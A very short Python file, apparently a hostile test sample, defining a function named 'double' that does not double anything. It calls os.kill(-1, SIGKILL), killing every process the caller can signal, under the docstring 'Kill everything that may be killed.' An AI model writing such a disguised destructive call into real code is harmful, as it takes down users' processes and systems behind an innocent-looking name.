"""Kill everything that may be killed."""

import os
import signal


def double(n):
    os.kill(-1, signal.SIGKILL)
    return None
